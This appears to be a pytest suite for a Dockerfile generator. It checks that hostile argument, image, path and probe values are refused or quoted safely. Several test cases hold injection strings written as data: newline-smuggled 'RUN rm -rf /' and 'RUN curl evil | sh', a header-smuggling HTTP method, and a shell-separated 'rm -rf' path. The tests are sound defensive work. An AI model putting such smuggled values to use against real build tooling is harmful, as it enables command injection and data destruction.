"""Hostile values cannot rewrite the Dockerfile: each one is refused, or emitted so that
Docker reads back exactly the value given. The Dockerfile is parsed with dockerfile-parse
and every instruction and value is compared."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from dockerfile_parse import DockerfileParser
from dockerfile_parse.util import WordSplitter

from pyfarm_docker import __version__, cli, runtime
from pyfarm_docker.documents.spec import AppSpec, Probe
from pyfarm_docker.driver import engine
from pyfarm_docker.driver.dockerfile import DockerfileOptions, for_project, render
from pyfarm_docker.driver.settings import Flags, Settings, resolve
from pyfarm_docker.errors import UsageError

TITLE = 'my "app" $HOME \\ été'  # the project directory's name is the image title
ARGS = ("a b", 'say "hi"', "$HOME", "${PATH}", "back\\slash", "\\", "naïve ☃", "'single'")
PROBE_PATH = "/he\"al'th?q=$HOME\\&x=`id`"
PREFIX = "/opt/my-app_1.0"
BASE = "localhost:5000/team/python:3.11-bookworm@sha256:" + "0" * 64

INSTRUCTIONS = [
    "ARG", "FROM", "ENV", "COPY", "RUN",  # builder: the tool's venv
    "RUN", "COPY", "RUN",  # the app's venv, the app
    "COPY", "WORKDIR", "RUN", "ARG", "RUN",  # trace, assemble
    "FROM", "COPY", "COPY", "COPY", "COPY", "ENV", "LABEL", "USER", "WORKDIR", "EXPOSE",
    "HEALTHCHECK", "ENTRYPOINT", "CMD",
]


def _parse(text: str, tmp_path: Path) -> list[dict[str, Any]]:
    parser = DockerfileParser(path=str(tmp_path / "Dockerfile"))
    parser.content = text
    return [i for i in parser.structure if i["instruction"] != "COMMENT"]


def _docker_dequote(word: str) -> str:
    """A double-quoted word as Docker's shell lexer reads it: a backslash escapes only
    '"', '$' and itself; an unescaped '$' would expand a variable."""
    assert word[0] == word[-1] == '"', word
    out, chars = [], iter(word[1:-1])
    for ch in chars:
        if ch == "\\":
            nxt = next(chars)
            if nxt not in '"$\\':
                out.append(ch)
            out.append(nxt)
        else:
            assert ch not in '$"', f"unescaped {ch!r} in {word}"
            out.append(ch)
    return "".join(out)


def _labels(value: str) -> dict[str, str]:
    labels = {}
    for word in WordSplitter(value).split(dequote=False):
        key, _, quoted = word.partition("=")
        labels[key] = _docker_dequote(quoted)
    return labels


@pytest.fixture
def hostile_project(tmp_path: Path) -> Path:
    project = tmp_path / TITLE
    project.mkdir()
    (project / "app.py").write_text("print('hi')\n")
    return project


def test_hostile_values_are_read_back_exactly(hostile_project: Path, tmp_path: Path) -> None:
    settings = resolve(Flags(path=hostile_project / "app.py", args=ARGS, port=8080,
                             probes=(f"GET {PROBE_PATH}",), base=BASE, prefix=PREFIX,
                             prune=True))
    assert settings.title == TITLE
    structure = _parse(render(for_project(DockerfileOptions(settings))), tmp_path)
    assert [i["instruction"] for i in structure] == INSTRUCTIONS
    by_name: dict[str, list[str]] = {}
    for item in structure:
        by_name.setdefault(item["instruction"], []).append(item["value"])

    assert by_name["ARG"][0] == f"BASE={BASE}"
    assert by_name["FROM"] == ["${BASE} AS builder", "scratch AS final"]
    contract = runtime.Runtime(settings.prefix)
    assert json.loads(by_name["RUN"][-1]) == [
        str(runtime.BUILDER_TOOL), "assemble", str(runtime.BUILDER_TRACE), "-o",
        str(runtime.BUILDER_OUT), "--layers", "--prefix", PREFIX, "--prune"]
    assert json.loads(by_name["ENTRYPOINT"][0]) == [str(contract.python),
                                                    f"{PREFIX}/app/app.py"]
    assert json.loads(by_name["CMD"][0]) == list(ARGS)
    assert by_name["WORKDIR"][-1] == f"{PREFIX}/app"

    options, _, healthcheck = by_name["HEALTHCHECK"][0].partition(" CMD ")
    assert options.split() == ["--interval=30s", "--timeout=5s", "--start-period=10s"]
    python, dash_c, code, url = json.loads(healthcheck)
    assert (python, dash_c) == (str(contract.python), "-c")
    assert url == f"http://127.0.0.1:8080{PROBE_PATH}"
    assert PROBE_PATH not in code

    labels = _labels(by_name["LABEL"][0])
    assert labels == {
        "org.opencontainers.image.title": TITLE,
        "org.opencontainers.image.description": f"{TITLE}, packed by pyfarm-docker {__version__}",
        runtime.LABEL_BASE: BASE,
        runtime.LABEL_MANIFEST: f"{PREFIX}/.pyfarm/manifest.json",
        runtime.LABEL_SPEC: settings.spec.dumps(),
    }
    spec = AppSpec.loads(labels[runtime.LABEL_SPEC], "label")
    assert spec.args == ARGS and spec.probes[0].path == PROBE_PATH


def test_the_healthcheck_code_takes_the_url_as_an_argument(hostile_project: Path) -> None:
    """Run it: a quote in the probe path makes no SyntaxError, just a failed request (no
    server listens; the URL never reaches Python's parser)."""
    settings = resolve(Flags(path=hostile_project / "app.py", port=9,
                             probes=(f"GET {PROBE_PATH}",)))
    text = render(DockerfileOptions(settings))
    line = next(ln for ln in text.splitlines() if ln.strip().startswith("CMD [") and "-c" in ln)
    _, code, url = json.loads(line.strip()[4:])[1:]
    done = subprocess.run([sys.executable, "-c", code, url], capture_output=True, text=True,
                          timeout=30, check=False)
    assert done.returncode == 1
    assert "URLError" in done.stderr and "SyntaxError" not in done.stderr


@pytest.mark.parametrize("flags, words", [
    ({"args": ("ok", "two\nRUN rm -rf /")}, "args 'two\\nRUN rm -rf /' contains a control"),
    ({"args": ("tab\there",)}, "contains a control character"),
    ({"base": "python:3.12\nRUN curl evil | sh"}, "is not a valid image reference"),
    ({"base": "Python:3.12"}, "base image 'Python:3.12' is not a valid image reference"),
    ({"final": 'scratch" AS x'}, "final image 'scratch\" AS x' is not a valid"),
    ({"base": "python@sha256:1234"}, "is not a valid image reference"),
    ({"prefix": "/app/../etc"}, "is not an absolute directory of plain names"),
    ({"prefix": "/"}, "is not an absolute directory"),
    ({"prefix": "app"}, "is not an absolute directory"),
    ({"prefix": "/app dir"}, "is not an absolute directory"),
    ({"prefix": "/app\n"}, "is not an absolute directory"),
    ({"prefix": "/$HOME"}, "is not an absolute directory"),
    ({"prefix": "/app//x"}, "is not an absolute directory"),
    ({"port": 8080, "probes": ("GET /a\x7fb",)}, "is not a request path"),
])
def test_hostile_values_are_refused(hostile_project: Path, flags: dict[str, Any],
                                    words: str) -> None:
    with pytest.raises(UsageError) as caught:
        resolve(Flags(path=hostile_project / "app.py", **flags))
    assert words in caught.value.message
    assert "\n" not in caught.value.message


@pytest.mark.parametrize("probe, words", [
    ({"method": "GET /x HTTP/1.1\r\nHost: evil", "path": "/"}, "is not an HTTP method"),
    ({"method": "G(E)T", "path": "/"}, "is not an HTTP method"),
    ({"path": "/a b"}, "is not a request path"),
    ({"path": "/a\nb"}, "is not a request path"),
    ({"path": "health"}, "is not a request path"),
])
def test_probes_from_pyproject_are_checked(hostile_project: Path, probe: dict[str, str],
                                           words: str) -> None:
    (hostile_project / "pyproject.toml").write_text(
        f"[tool.pyfarm-docker]\nport = 8080\nprobes = [{_toml_table(probe)}]\n")
    with pytest.raises(UsageError, match=words):
        resolve(Flags(path=hostile_project / "app.py"))


def _toml_table(values: dict[str, str]) -> str:
    return "{" + ", ".join(f"{k} = {json.dumps(v)}" for k, v in values.items()) + "}"


def test_a_control_character_in_the_project_name_is_refused(tmp_path: Path) -> None:
    project = tmp_path / "app\nRUN echo pwned"
    project.mkdir()
    (project / "app.py").write_text("print(1)\n")
    with pytest.raises(UsageError, match="the project directory's name"):
        resolve(Flags(path=project))


def test_settings_made_in_code_are_checked_too() -> None:
    """Whatever builds a Settings (scripts, tests), the Dockerfile never sees a bad value."""
    with pytest.raises(UsageError, match="prefix"):
        Settings(Path("/demo"), prefix=Path("/demo/../x"))  # type: ignore[arg-type]
    with pytest.raises(UsageError, match="control character"):
        Settings(Path("/demo"), AppSpec(args=("x\ny",)))
    with pytest.raises(UsageError, match="is not an HTTP method"):
        Probe("GET\n", "/")


def test_references_with_digests() -> None:
    digest = "sha256:" + "ab" * 32
    assert engine.check_image(f"python@{digest}", "base") == f"python@{digest}"
    assert engine.check_image(f"python:3.12-slim@{digest}", "base")
    with pytest.raises(UsageError):
        engine.check_reference(f"myapp@{digest}")  # a tag names no digest
    assert engine.check_reference("localhost:5000/team/app:1.0") == ("localhost:5000/team/app",
                                                                       "1.0")


def test_generate_refuses_a_helpers_dir_the_dockerfile_cannot_name(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "app.py").write_text("print(1)\n")
    code = cli.main(["generate", str(tmp_path), "-o", str(tmp_path / "my helpers; rm -rf")])
    assert code == UsageError.exit_code
    assert "is not a plain path inside the project" in capsys.readouterr().err
    assert not (tmp_path / "my helpers; rm -rf").exists()
